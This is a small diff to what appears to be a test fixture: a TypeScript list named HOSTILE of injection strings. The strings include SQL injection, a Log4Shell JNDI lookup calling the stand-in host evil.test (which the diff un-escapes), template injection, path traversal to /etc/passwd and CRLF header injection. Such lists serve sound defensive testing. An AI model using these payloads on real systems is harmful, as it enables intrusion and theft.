@@ -43,7 +43,7 @@ const HOSTILE: readonly string[] = [
   '&lt;b&gt; &amp;#0; &nbsp;',
   "Robert'); DROP TABLE asset;--",
   "' OR '1'='1",
-  '$\{jndi:ldap://evil.test/a}',
+  '${jndi:ldap://evil.test/a}',
   '{{7*7}}',
   '../../../etc/passwd',
   '%00%0d%0aSet-Cookie: x=1',
